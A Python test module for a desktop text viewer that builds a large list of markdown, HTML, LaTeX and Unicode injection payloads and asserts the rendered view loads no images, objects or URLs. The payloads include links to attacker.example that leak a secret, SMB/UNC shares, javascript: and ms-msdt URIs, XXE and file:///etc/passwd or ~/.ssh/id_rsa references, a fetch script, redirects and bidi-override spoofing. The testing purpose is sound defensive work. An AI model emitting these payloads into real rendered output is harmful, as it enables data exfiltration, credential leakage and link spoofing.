"""Texts that a model, a person or a document may write to make whoever shows them open, load or start something."""

from __future__ import annotations

from collections.abc import Iterable
from itertools import product
from pathlib import Path

from inglenook_desktop.views.formulas import FORMULA_OBJECT
from inglenook_desktop.views.text_piece import TextPiece
from PySide6.QtGui import QTextFormat

CANARY = "inglenook-canary.png"

TARGETS = [
    "file://{dir}/{name}",
    "{dir}/{name}",
    "{name}",
    "./{name}",
    "../{folder}/{name}",
    "//attacker.example/share/a.png",
    "\\\\attacker.example\\share\\a.png",
    "http://attacker.example/x.png?q=secret",
    "https://attacker.example/x.png",
    "qrc:/x.png",
    ":/x.png",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:////attacker.example/share/a.png",
    "FILE://{dir}/{name}",
    "smb://attacker.example/x",
    "javascript:alert(1)",
    "<{dir}/{name}>",
    "file:\\\\{dir}\\{name}",
    "%2e%2e/{name}",
    "ftp://attacker.example/x.png",
]

SHAPES = [
    "![alt]({url})",
    "![]({url})",
    '![alt]({url} "title")',
    "![alt][ref]\n\n[ref]: {url}",
    "![ref]\n\n[ref]: {url}",
    "![ref][]\n[ref]: {url}",
    "[![alt]({url})]({url})",
    "[link]({url})",
    '[link]({url} "<img src={url}>")',
    "<{url}>",
    "{url}",
    "<img src={url}>",
    '<img src="{url}">',
    '<p style="background:url({url})">x</p>',
    '<link rel="stylesheet" href="{url}">',
    '<style>@import "{url}";</style>',
    "<object data={url}></object>",
    "<table background={url}><tr><td>x</table>",
    "> ![alt]({url})",
    "- ![alt]({url})",
    "1. a\n   ![alt]({url})",
    "| a |\n|---|\n| ![alt]({url}) |\n",
    "# ![alt]({url})",
    "**![alt]({url})**",
    "`a` ![alt]({url}) `b`",
    "` ![alt]({url})",
    "\\`![alt]({url})`",
    "`` ` ![alt]({url})",
    "```\n![alt]({url})\n```",
    "~~~html\n<img src={url}>\n~~~",
    "    ![alt]({url})",
    "&#33;[alt]({url})",
    "&lt;img src={url}&gt;",
    "!\\[alt]({url})",
    "![a![b]({url})]({url})",
    "![alt\n]({url})",
    "![alt](\n{url})",
    "![alt]( {url} )",
    "-\n![alt]({url})",
    "a\r![alt]({url})",
    "![alt]({url}\u200b)",
    "![alt]({url}){{width=1 height=1}}",
    "<!-- ![alt]({url}) -->",
    "$$![alt]({url})$$",
    "<a href={url}>x</a>",
    "<svg><image href={url}></svg>",
    "<iframe src={url}>",
    "<video poster={url}>",
    "<input type=image src={url}>",
    "<body background={url}>",
    "$\\href{{{url}}}{{x}}$",
    "$$\n\\includegraphics{{{url}}}\n$$",
    "\\[\\url{{{url}}} = x\\]",
    "```math\n\\input{{{url}}}\n```",
    "$![alt]({url})$",
    "text[^1]\n\n[^1]: ![alt]({url}) <img src={url}>",
    "[^{url}]: x",
    "x<sup>![alt]({url})</sup><br><img src={url}>",
    "> [!NOTE]\n> ![alt]({url})",
    "[x](#note-{url})",
]

ALONE = [
    "[safe](https://example.org/\u202egpj.exe)",
    "[\u2066https://bank.example\u2069](https://attacker.example)",
    "https://example.org/\u200b\u200bpath\u00ad",
    "a\U000e0041\U000e0042\U000e007f b",
    "\u202e" * 50 + "![x]({dir}/{name})",
    "\u2067`code`\u2069 **\u202dbold\u202c**",
    "| \u202ea | b |\n|---|---|\n| \u2066c | d |",
    "# \u202eheading\n\n- \u2067item",
    "```py\n# \u202e } if x:\n```",
    "$\u202ex^2$ and \\(\u2066y\\)",
    "[x](javascript&#58;alert(1))",
    "[x](&#102;ile:///etc/passwd)",
    "[x](file&colon;///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]( \t\nfile:///etc/passwd )",
    "[x](https://user:secret@example.org)",
    "[x](https://example.org:99999/)",
    "[x](HTTP://ATTACKER.EXAMPLE)",
    "[x](vscode://file/etc/passwd)",
    "[x](ms-msdt:/id)",
    "[x](search-ms:query=x&crumb=location:\\\\attacker.example\\share)",
    "[x](mailto:a@b.example?attach=/etc/passwd)",
    "[x](tel:123) [y](sms:123) [z](steam://run/1)",
    "C:\\Windows\\System32\\calc.exe and C:/Users/x/{name}",
    "\\\\attacker.example\\share\\{name} and //attacker.example/{name}",
    "~/.ssh/id_rsa and ./{name} and ../../{name}",
    "%SystemRoot%\\explorer.exe and $HOME/{name}",
    "[~/.ssh/id_rsa](~/.ssh/id_rsa)",
    "[x](C:\\Windows\\notepad.exe)",
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<form action=http://attacker.example><input type=submit></form>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example'>",
    "<base href=http://attacker.example/>\n\n[x](y)",
    "<script>fetch('http://attacker.example')</script>",
    "<math><mtext><img src={name}></mtext></math>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{dir}/{name}'>]>&e;",
    "<?xml-stylesheet href='{dir}/{name}'?>",
    "<![CDATA[ ![x]({name}) ]]>",
    "<font face='{name}'>x</font><span style='font-family:url({name})'>y</span>",
    "\x00\x07\x1b[31mred\x1b]8;;file:///etc/passwd\x07link\x1b]8;;\x07",
    "\ud800\udfff ![x]({name})",
    "[[{name}]] and ![[{name}]]",
    "{{{{{name}}}}} and {{% include {name} %}}",
    "::: include {name}\n:::",
    ".. image:: {name}",
    "@import url({name});",
    "---\ncss: {name}\n---",
    "[toc]: {name} '<img src={name}>'",
    "[x]: <{dir}/{name}> (title)\n\n![x] [x]",
    "[](\u0000{name}) ![](\u0000{name})",
]

CASES = [
    shape.replace("{url}", target).replace("{{", "{").replace("}}", "}") for shape, target in product(SHAPES, TARGETS)
] + ALONE


def filled(case: str, folder: Path) -> str:
    return case.replace("{dir}", str(folder)).replace("{name}", CANARY).replace("{folder}", folder.name)


def assert_inert(texts: Iterable[TextPiece]) -> None:
    """No image, no object, no tool tip, no base address in any document that is shown."""
    for text in texts:
        document = text._document
        assert not document.baseUrl().isValid()
        assert document.toRawText().count("\ufffc") == len(document.formulas)
        block = document.begin()
        while block.isValid():
            iterator = block.begin()
            while not iterator.atEnd():
                form = iterator.fragment().charFormat()
                iterator += 1
                assert not form.isImageFormat()
                assert form.objectType() in (QTextFormat.ObjectTypes.NoObject.value, FORMULA_OBJECT)
                assert form.toolTip() == ""
                assert not form.hasProperty(QTextFormat.Property.ImageName)
                assert not form.hasProperty(QTextFormat.Property.BackgroundImageUrl)
            block = block.next()
